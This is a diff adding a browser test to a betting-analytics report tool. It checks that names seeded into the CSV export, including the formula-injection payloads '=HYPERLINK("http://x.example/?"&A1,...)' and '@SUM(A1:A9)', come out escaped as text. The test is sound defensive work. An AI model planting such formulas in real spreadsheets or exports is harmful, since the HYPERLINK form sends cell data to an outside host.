@@ -291,6 +291,47 @@ def test_the_desk_tables_sort_filter_and_export_the_rows_shown(
     context.close()
 
 
+def test_the_desk_csv_holds_no_formula_from_a_books_names(
+    warehouse_url: str, tmp_path: Path, browser: object
+) -> None:
+    """Names a book supplies, seeded as to-list rows, come out of the downloaded CSV as text a spreadsheet
+    shows, never runs; the numbers, a negative one included, stay numbers."""
+    hyperlink = '=HYPERLINK("http://x.example/?"&A1,"odds")'
+    kickoff = datetime(DAY.year, DAY.month, DAY.day, 15, tzinfo=UTC)
+    with psycopg.connect(libpq_url(warehouse_url), autocommit=True) as conn:
+        for key, country, tournament, home, away, hours in (
+            ("m1", "-2+3", hyperlink, "+44 Lions", "Tigers", 27.0),
+            ("m2", "\t=1+1", "@SUM(A1:A9)", "Bears", "=Wolves", -0.5),
+        ):
+            conn.execute(
+                "INSERT INTO analytics.to_list_now (kickoff_date, match_key, sport, country, tournament, "
+                "home, away, kickoff, hours_to_kickoff, listed_by, first_listed_at, "
+                "hours_listed_by_competitor, computed_at) "
+                "VALUES (%s, %s, 'football', %s, %s, %s, %s, %s, %s, ARRAY['sportybet'], %s, 3, now())",
+                (DAY, key, country, tournament, home, away, kickoff, hours, kickoff - timedelta(hours=3)),
+            )
+        build_report(conn, DAY, DAY, tmp_path / "hostile.html")
+    context = browser.new_context(offline=True, accept_downloads=True)  # type: ignore[attr-defined]
+    page = context.new_page()
+    page.goto((tmp_path / "hostile.html").as_uri())
+    shown = sorted(_desk_rows(page, "to_list"))
+    with page.expect_download() as download:
+        page.click('section[data-table="to_list"] button')
+    lines = list(csv.reader(Path(download.value.path()).read_text().splitlines()))
+    context.close()
+    when = f"{kickoff:%Y-%m-%d %H:%M}"
+    assert sorted(lines[1:]) == sorted(
+        [
+            [when, "football", "'-2+3", "'" + hyperlink, "'+44 Lions v Tigers", "sportybet", "27", "3"],
+            [when, "football", "'\t=1+1", "'@SUM(A1:A9)", "Bears v =Wolves", "sportybet", "-0.5", "3"],
+        ]
+    )
+    # the page itself shows the names as the book gave them
+    assert sorted(row[2:5] for row in shown) == sorted(
+        [["-2+3", hyperlink, "+44 Lions v Tigers"], ["\t=1+1", "@SUM(A1:A9)", "Bears v =Wolves"]]
+    )
+
+
 def test_the_price_leadership_chart_draws_in_a_real_browser(
     warehouse_url: str, tmp_path: Path, browser: object
 ) -> None:
